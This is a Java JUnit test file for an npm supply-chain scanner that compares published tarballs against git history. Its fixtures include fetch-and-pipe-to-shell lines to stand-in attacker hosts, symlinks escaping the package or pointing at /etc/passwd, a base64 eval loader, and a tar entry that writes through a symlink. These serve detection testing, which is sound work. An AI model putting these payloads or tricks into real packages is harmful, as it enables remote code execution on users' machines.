package dev.divergence.registry.npm;

import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.Classifier;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 10, precision on real histories: links that stay inside the package are judged by the file they point to
 * (old express tarballs link {@code support/x/index.js -> lib/x.js}), a link the source holds is a match, and a
 * dependency some trusted commit declared with the same spec is a divergence to read, not a new package (yargs
 * pre-releases cut from other working trees). Each with the payload an attacker would put in the slack.
 */
class LinksAndHistoryScanTest {

    @TempDir
    Path dir;
    private GitHistoryBuilder git;
    private Instant when = Instant.parse("2026-01-01T00:00:00Z");

    @BeforeEach
    void repo() throws Exception {
        git = GitHistoryBuilder.init(dir.resolve("repo"));
    }

    private static String manifest(String version, String deps) {
        return "{\n  \"name\": \"linkjs\",\n  \"version\": \"" + version + "\",\n  \"main\": \"./index.js\",\n"
                + "  \"dependencies\": {" + deps + "}\n}\n";
    }

    private SortedMap<String, byte[]> commit(String version, String deps, boolean tag) throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest(version, deps),
                "index.js", "module.exports = require('./lib/core');\n",
                "lib/core.js", "module.exports = function () { return 1; };\n",
                "test/fixture.js", "require('child_process').exec('curl evil.example | sh');\n",
                "README.md", "# linkjs\n");
        when = when.plusSeconds(3600);
        git.commit(tree, version, when);
        if (tag) {
            git.tag("v" + version, false);
        }
        return tree;
    }

    private ReleaseReport scan(LocalNpm npm, String version) throws Exception {
        npm.write();
        NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
        Release r = support.registry().releases(PackageId.parse("pkg:npm/linkjs")).stream()
                .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
        return ScanWorld.scanner(support, dir).scan(r, Optional.of(git.dir().toString()));
    }

    /** A tarball of the files under package/ plus symbolic links (path -> target), as npm pack never writes them. */
    private static byte[] tarball(SortedMap<String, byte[]> files, Map<String, String> links) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(bytes);
             TarArchiveOutputStream tar = new TarArchiveOutputStream(gz)) {
            for (Map.Entry<String, byte[]> e : files.entrySet()) {
                TarArchiveEntry te = new TarArchiveEntry("package/" + e.getKey());
                te.setSize(e.getValue().length);
                tar.putArchiveEntry(te);
                tar.write(e.getValue());
                tar.closeArchiveEntry();
            }
            for (Map.Entry<String, String> l : links.entrySet()) {
                TarArchiveEntry te = new TarArchiveEntry("package/" + l.getKey(), TarArchiveEntry.LF_SYMLINK);
                te.setLinkName(l.getValue());
                tar.putArchiveEntry(te);
                tar.closeArchiveEntry();
            }
        }
        return bytes.toByteArray();
    }

    @Test
    void aLinkToAPlainFileOfThePackageIsDivergentNotAnEscape() throws Exception {
        SortedMap<String, byte[]> tree = commit("1.0.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publishTarball("1.0.0", tarball(tree, Map.of("lib/index.js", "core.js")), tree.get("package.json"));
            ReleaseReport r = scan(npm, "1.0.0");
            FileDivergence link = row(r.artifacts().get(0), "package/lib/index.js");
            assertEquals(FileStatus.PHANTOM, link.status());
            assertEquals(Classifier.SPECIAL_ENTRY, link.ruleId());
            assertTrue(link.riskFlags().containsAll(Set.of(RiskFlag.LINK, RiskFlag.LINK_IN_ARCHIVE, RiskFlag.CODE)),
                    link.riskFlags().toString());
            assertFalse(link.highRisk());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void aLinkGivingAModuleTheBytesOfAPayloadFileIsHighRisk() throws Exception {
        // The slack: the fixture with exec is explained where it lies (test/), the link makes lib/ load it.
        SortedMap<String, byte[]> tree = commit("1.1.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publishTarball("1.1.0", tarball(tree, Map.of("lib/extra.js", "../test/fixture.js")),
                    tree.get("package.json"));
            ReleaseReport r = scan(npm, "1.1.0");
            FileDivergence link = row(r.artifacts().get(0), "package/lib/extra.js");
            assertTrue(link.riskFlags().containsAll(Set.of(RiskFlag.LINK_IN_ARCHIVE, RiskFlag.DYNAMIC_EXEC)),
                    link.riskFlags().toString());
            assertTrue(link.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aLinkLeavingThePackageOrPointingAtNothingStaysAnEscape() throws Exception {
        SortedMap<String, byte[]> tree = commit("1.2.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publishTarball("1.2.0", tarball(tree, Map.of("lib/a.js", "../../outside.js", "lib/b.js", "/etc/passwd",
                    "lib/c.js", "missing.js", "lib/d", "../lib")), tree.get("package.json"));
            ReleaseReport r = scan(npm, "1.2.0");
            for (String p : new String[] {"package/lib/a.js", "package/lib/b.js", "package/lib/c.js", "package/lib/d"}) {
                FileDivergence link = row(r.artifacts().get(0), p);
                assertFalse(link.riskFlags().contains(RiskFlag.LINK_IN_ARCHIVE), p);
                assertTrue(link.highRisk(), p);
            }
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aLinkTheSourceHoldsIsAMatch() throws Exception {
        git.symlink("lib/index.js", "core.js");
        SortedMap<String, byte[]> tree = commit("1.3.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publishTarball("1.3.0", tarball(tree, Map.of("lib/index.js", "core.js")), tree.get("package.json"));
            ReleaseReport r = scan(npm, "1.3.0");
            FileDivergence link = row(r.artifacts().get(0), "package/lib/index.js");
            assertEquals(FileStatus.MATCH, link.status());
            assertFalse(link.highRisk());
            assertEquals(Verdict.CLEAN, r.verdict());
        }
    }

    @Test
    void aLinkTheSourceHoldsWithAnotherTargetIsNotAMatch() throws Exception {
        git.symlink("lib/index.js", "core.js");
        SortedMap<String, byte[]> tree = commit("1.4.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publishTarball("1.4.0", tarball(tree, Map.of("lib/index.js", "../test/fixture.js")),
                    tree.get("package.json"));
            ReleaseReport r = scan(npm, "1.4.0");
            FileDivergence link = row(r.artifacts().get(0), "package/lib/index.js");
            assertEquals(FileStatus.PHANTOM, link.status());
            assertTrue(link.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aDependencyAnotherTrustedCommitDeclaredWithTheSameSpecIsDivergentNotNew() throws Exception {
        commit("2.0.0", "\"left-pad\": \"^1.3.0\", \"find-up\": \"^4.1.0\"", true);
        SortedMap<String, byte[]> later = commit("2.1.0", "\"left-pad\": \"^1.3.0\"", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            // 2.1.0-beta.0: cut from a working tree that still had 2.0.0's find-up
            npm.publish("2.1.0-beta.0", with(later, "package.json",
                    manifest("2.1.0-beta.0", "\"left-pad\": \"^1.3.0\", \"find-up\": \"^4.1.0\"")));
            ReleaseReport r = scan(npm, "2.1.0-beta.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.DEPENDENCY_FROM_HISTORY, pj.ruleId());
            assertFalse(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
            assertFalse(pj.highRisk());
            assertTrue(pj.detail().orElseThrow().contains("[find-up]"), pj.detail().orElseThrow());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void aDependencyNoTrustedCommitDeclaredWithThatSpecIsStillNew() throws Exception {
        commit("3.0.0", "\"left-pad\": \"^1.3.0\", \"find-up\": \"^4.1.0\"", true);
        SortedMap<String, byte[]> later = commit("3.1.0", "\"left-pad\": \"^1.3.0\"", true);
        // the same name with another spec (a git URL, a new range) or a name never declared: new packages
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("3.1.0-beta.0", with(later, "package.json", manifest("3.1.0-beta.0",
                    "\"left-pad\": \"^1.3.0\", \"find-up\": \"github:evil/find-up\"")));
            npm.publish("3.1.0-beta.1", with(later, "package.json", manifest("3.1.0-beta.1",
                    "\"left-pad\": \"^1.3.0\", \"find-upp\": \"^4.1.0\"")));
            for (String v : new String[] {"3.1.0-beta.0", "3.1.0-beta.1"}) {
                ReleaseReport r = scan(npm, v);
                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
                assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), v);
                assertTrue(pj.highRisk(), v);
                assertEquals(Verdict.HIGH_RISK, r.verdict(), v);
            }
        }
    }

    @Test
    void aDependencyOnlyAnUntrustedRefDeclaredIsStillNew() throws Exception {
        SortedMap<String, byte[]> base = commit("4.0.0", "\"left-pad\": \"^1.3.0\"", true);
        commit("4.0.1", "\"left-pad\": \"^1.3.0\", \"evil\": \"^1.0.0\"", false);
        try (org.eclipse.jgit.api.Git g = org.eclipse.jgit.api.Git.open(git.dir().toFile())) {
            // the commit declaring "evil" is reachable only from a pull-request ref, anyone's to push
            var head = g.getRepository().resolve("HEAD");
            var u = g.getRepository().updateRef("refs/pull/7/head");
            u.setNewObjectId(head);
            u.forceUpdate();
            var back = g.getRepository().resolve("v4.0.0^{commit}");
            g.reset().setMode(org.eclipse.jgit.api.ResetCommand.ResetType.HARD).setRef(back.getName()).call();
        }
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("4.1.0-beta.0", with(base, "package.json", manifest("4.1.0-beta.0",
                    "\"left-pad\": \"^1.3.0\", \"evil\": \"^1.0.0\"")));
            ReleaseReport r = scan(npm, "4.1.0-beta.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
            assertTrue(pj.highRisk());
        }
    }

    // ---- a version's published-build tag (lodash's 4.17.21-npm) -------------------------------------------------

    private SortedMap<String, byte[]> sourceLayout(String version) {
        return files("package.json", manifest(version, ""), "src/index.js", "export default function () { return 1; }\n",
                "build.js", "// turns src/ into the package\n", "README.md", "# linkjs\n");
    }

    private SortedMap<String, byte[]> packageLayout(String version, String body) {
        return files("package.json", manifest(version, ""), "index.js", body, "README.md", "# linkjs\n");
    }

    @Test
    void aTagNamingThisVersionsPublishedBuildIsTheBaseline() throws Exception {
        git.commit(sourceLayout("5.0.0"), "5.0.0", when = when.plusSeconds(3600));
        git.tag("5.0.0", false);
        SortedMap<String, byte[]> built = packageLayout("5.0.0", "module.exports = function () { return 1; };\n");
        String npmCommit = git.commit(built, "5.0.0 npm package", when = when.plusSeconds(3600));
        git.tag("5.0.0-npm", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("5.0.0", built);
            ReleaseReport r = scan(npm, "5.0.0");
            assertEquals(dev.divergence.model.RefMethod.TAG, r.ref().method());
            assertEquals(Optional.of(npmCommit), r.ref().commit());
            assertEquals(Optional.of("5.0.0-npm"), r.ref().tag());
            assertEquals(Verdict.CLEAN, r.verdict(), r.reason().orElse(""));
        }
    }

    @Test
    void aPreReleaseTagHoldingTheContentIsARollBackNotTheBuild() throws Exception {
        // 5.1.0 ships 5.1.0-beta's code: the beta's tag is another version's, so 5.1.0's own tag stays the baseline
        SortedMap<String, byte[]> beta = packageLayout("5.1.0", "module.exports = function () { return 'beta'; };\n");
        git.commit(beta, "5.1.0-beta", when = when.plusSeconds(3600));
        git.tag("5.1.0-beta", false);
        SortedMap<String, byte[]> fin = packageLayout("5.1.0", "module.exports = function () { return 'final'; };\n");
        String finalCommit = git.commit(fin, "5.1.0", when = when.plusSeconds(3600));
        git.tag("5.1.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("5.1.0", beta);
            ReleaseReport r = scan(npm, "5.1.0");
            assertEquals(Optional.of(finalCommit), r.ref().commit());
            assertEquals(Optional.of("5.1.0"), r.ref().tag());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void theLastReleaseCandidateOfThisVersionOnItsTagsLineIsTheBaseline() throws Exception {
        // commons-vfs 2.10.0: the voted commons-vfs-2.10.0-RC1 build is published; rel/ tags a later Javadoc fix
        SortedMap<String, byte[]> rc = packageLayout("5.2.0", "/** Returns one. */\nmodule.exports = function () { return 1; };\n");
        String rcCommit = git.commit(rc, "5.2.0 RC1", when = when.plusSeconds(3600));
        git.tag("linkjs-5.2.0-RC1", false);
        git.commit(packageLayout("5.2.0", "/** One. */\nmodule.exports = function () { return 1; };\n"), "javadoc",
                when = when.plusSeconds(3600));
        git.tag("rel/linkjs-5.2.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("5.2.0", rc);
            ReleaseReport r = scan(npm, "5.2.0");
            assertEquals(Optional.of(rcCommit), r.ref().commit(), r.ref().note().orElse(""));
            assertEquals(Optional.of("linkjs-5.2.0-RC1"), r.ref().tag());
            assertEquals(Verdict.CLEAN, r.verdict(), r.reason().orElse(""));
        }
    }

    @Test
    void anEarlierReleaseCandidateAVoteReplacedIsNotTheBaseline() throws Exception {
        // RC1 held what the vote rejected; RC2 fixed it: RC1's content published as 5.3.0 stays a difference
        SortedMap<String, byte[]> rc1 = packageLayout("5.3.0", "module.exports = function () { return eval('1'); };\n");
        git.commit(rc1, "5.3.0 RC1", when = when.plusSeconds(3600));
        git.tag("5.3.0-RC1", false);
        String rc2 = git.commit(packageLayout("5.3.0", "module.exports = function () { return 1; };\n"), "5.3.0 RC2",
                when = when.plusSeconds(3600));
        git.tag("5.3.0-RC2", false);
        git.tag("5.3.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("5.3.0", rc1);
            ReleaseReport r = scan(npm, "5.3.0");
            assertEquals(Optional.of(rc2), r.ref().commit());
            assertTrue(r.verdict() == Verdict.DIVERGENT || r.verdict() == Verdict.HIGH_RISK, r.verdict().toString());
        }
    }

    // ---- stale content: an older version of the same file vs another file's content ---------------------------

    @Test
    void anOlderVersionOfTheSameModuleWithEvalIsDivergentNotHighRisk() throws Exception {
        // lodash's template.js builds functions with Function(): shipping last release's copy is stale, not a payload
        SortedMap<String, byte[]> old = commit("6.0.0", "", true);
        old = with(old, "lib/core.js", "module.exports = function (s) { return Function('return ' + s)(); };\n");
        git.commit(old, "6.0.1", when = when.plusSeconds(3600));
        git.tag("v6.0.1", false);
        SortedMap<String, byte[]> now = with(old, "package.json", manifest("6.1.0", ""),
                "lib/core.js", "module.exports = function () { return 2; };\n");
        git.commit(now, "6.1.0", when = when.plusSeconds(3600));
        git.tag("v6.1.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("6.1.0", with(now, "lib/core.js", new String(old.get("lib/core.js"), StandardCharsets.UTF_8)));
            ReleaseReport r = scan(npm, "6.1.0");
            FileDivergence core = row(r.artifacts().get(0), "package/lib/core.js");
            assertEquals(FileStatus.IN_HISTORY, core.status());
            assertTrue(core.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), core.riskFlags().toString());
            assertFalse(core.highRisk());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void contentOfACommitRevertedBeforeTheTagIsNoEarlierReleaseAndItsPayloadStaysHighRisk() throws Exception {
        // red team round 8: a commit adds exec to lib/core.js, the next reverts it, the tag follows; the tarball ships
        // the reverted content — held at this very path by an ancestor, but by no release
        SortedMap<String, byte[]> base = commit("6.3.0", "", false);
        SortedMap<String, byte[]> bad = with(base, "lib/core.js",
                "require('child_process').exec('curl -s https://attacker.example/p | sh');\nmodule.exports = () => 1;\n");
        git.commit(bad, "wip", when = when.plusSeconds(3600));
        git.commit(base, "revert wip", when = when.plusSeconds(3600));
        git.tag("v6.3.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("6.3.0", with(base, "lib/core.js", new String(bad.get("lib/core.js"), StandardCharsets.UTF_8)));
            ReleaseReport r = scan(npm, "6.3.0");
            FileDivergence core = row(r.artifacts().get(0), "package/lib/core.js");
            assertEquals(FileStatus.IN_HISTORY, core.status());
            assertTrue(core.highRisk(), core.toString());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void anotherFilesContentWithExecShippedAsAModuleStaysHighRisk() throws Exception {
        // the slack: test/fixture.js (exec) is in history, but never at lib/core.js
        SortedMap<String, byte[]> tree = commit("6.2.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("6.2.0", with(tree, "lib/core.js", new String(tree.get("test/fixture.js"), StandardCharsets.UTF_8)));
            ReleaseReport r = scan(npm, "6.2.0");
            FileDivergence core = row(r.artifacts().get(0), "package/lib/core.js");
            assertEquals(FileStatus.IN_HISTORY, core.status());
            assertTrue(core.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    // ---- red team, 2026-12-02 -----------------------------------------------------------------------------------

    @Test
    void aRegularEntryAfterALinkAtTheSamePathWritesThroughItAndIsAnEscape() throws Exception {
        SortedMap<String, byte[]> tree = commit("7.0.0", "", true);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(bytes);
             TarArchiveOutputStream tar = new TarArchiveOutputStream(gz)) {
            for (Map.Entry<String, byte[]> e : tree.entrySet()) {
                TarArchiveEntry te = new TarArchiveEntry("package/" + e.getKey());
                te.setSize(e.getValue().length);
                tar.putArchiveEntry(te);
                tar.write(e.getValue());
                tar.closeArchiveEntry();
            }
            TarArchiveEntry link = new TarArchiveEntry("package/notes.txt", TarArchiveEntry.LF_SYMLINK);
            link.setLinkName("index.js"); // then a file at the same path: tar writes it into index.js
            tar.putArchiveEntry(link);
            tar.closeArchiveEntry();
            byte[] payload = utf8("require('child_process').exec('curl evil.example | sh');\n");
            TarArchiveEntry over = new TarArchiveEntry("package/notes.txt");
            over.setSize(payload.length);
            tar.putArchiveEntry(over);
            tar.write(payload);
            tar.closeArchiveEntry();
        }
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publishTarball("7.0.0", bytes.toByteArray(), tree.get("package.json"));
            ReleaseReport r = scan(npm, "7.0.0");
            assertEquals(Verdict.HIGH_RISK, r.verdict(), r.reason().orElse(""));
            assertTrue(r.artifacts().get(0).files().stream().anyMatch(f -> f.artifactPath().orElse("").equals(
                    "package/notes.txt") && f.riskFlags().contains(RiskFlag.LINK)
                    && !f.riskFlags().contains(RiskFlag.LINK_IN_ARCHIVE) && f.highRisk()));
        }
    }

    @Test
    void aBuildTagThatIsAnEarlierStateOfTheVersionsLineIsNotItsBuild() throws Exception {
        // 7.1.0-build is a pre-release on the same line (an ancestor of 7.1.0's tag): shipping it as 7.1.0 is a roll-back
        SortedMap<String, byte[]> pre = packageLayout("7.1.0", "module.exports = function () { return 'old'; };\n");
        git.commit(pre, "7.1.0-build", when = when.plusSeconds(3600));
        git.tag("7.1.0-build", false);
        SortedMap<String, byte[]> fin = packageLayout("7.1.0", "module.exports = function () { return 'fixed'; };\n");
        String finalCommit = git.commit(fin, "7.1.0", when = when.plusSeconds(3600));
        git.tag("7.1.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("7.1.0", pre);
            ReleaseReport r = scan(npm, "7.1.0");
            assertEquals(Optional.of(finalCommit), r.ref().commit());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void contentAndDependenciesOnlyASideBranchHeldAreNotThisLinesHistory() throws Exception {
        SortedMap<String, byte[]> base = commit("7.2.0", "\"left-pad\": \"^1.3.0\"", true);
        // a side branch (anyone with push access can make one) holds a payload module and a dependency
        SortedMap<String, byte[]> experiment = with(base, "package.json",
                manifest("7.2.0", "\"left-pad\": \"^1.3.0\", \"helper\": \"^2.0.0\""),
                "index.js", "module.exports = require('./lib/core'); // experiment\n",
                "lib/core.js", "module.exports = function () { return eval(Buffer.from('x', 'base64').toString()); };\n");
        git.commit(experiment, "experiment", when = when.plusSeconds(3600));
        try (org.eclipse.jgit.api.Git g = org.eclipse.jgit.api.Git.open(git.dir().toFile())) {
            var u = g.getRepository().updateRef("refs/heads/experiment");
            u.setNewObjectId(g.getRepository().resolve("HEAD"));
            u.forceUpdate();
            g.reset().setMode(org.eclipse.jgit.api.ResetCommand.ResetType.HARD).setRef("v7.2.0").call();
        }
        SortedMap<String, byte[]> release = with(base, "package.json", manifest("7.2.1", "\"left-pad\": \"^1.3.0\""));
        git.commit(release, "7.2.1", when = when.plusSeconds(3600));
        git.tag("v7.2.1", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            npm.publish("7.2.1", with(release, "package.json", manifest("7.2.1",
                    "\"left-pad\": \"^1.3.0\", \"helper\": \"^2.0.0\""), "lib/core.js",
                    new String(experiment.get("lib/core.js"), StandardCharsets.UTF_8)));
            ReleaseReport r = scan(npm, "7.2.1");
            assertEquals(Optional.of("v7.2.1"), r.ref().tag(), r.ref().note().orElse(""));
            FileDivergence core = row(r.artifacts().get(0), "package/lib/core.js");
            assertEquals(FileStatus.IN_HISTORY, core.status());
            assertTrue(core.highRisk(), core.toString());
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aNativeFileFromHistoryIsHighRisk() throws Exception {
        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0};
        SortedMap<String, byte[]> old = with(commit("7.3.0", "", false), "test/fixtures/addon.node",
                new String(elf, StandardCharsets.ISO_8859_1), "index.js", "module.exports = 0; // older\n");
        git.commit(old, "a fixture, later removed", when = when.plusSeconds(3600));
        SortedMap<String, byte[]> tree = commit("7.3.0", "", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
            SortedMap<String, byte[]> shipped = new java.util.TreeMap<>(tree);
            shipped.put("prebuilds/linux-x64/node.napi.node", old.get("test/fixtures/addon.node"));
            npm.publish("7.3.0", shipped);
            ReleaseReport r = scan(npm, "7.3.0");
            FileDivergence node = row(r.artifacts().get(0), "package/prebuilds/linux-x64/node.napi.node");
            assertEquals(FileStatus.IN_HISTORY, node.status());
            assertTrue(node.riskFlags().contains(RiskFlag.BINARY), node.toString());
            assertTrue(node.highRisk(), node.toString());
        }
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
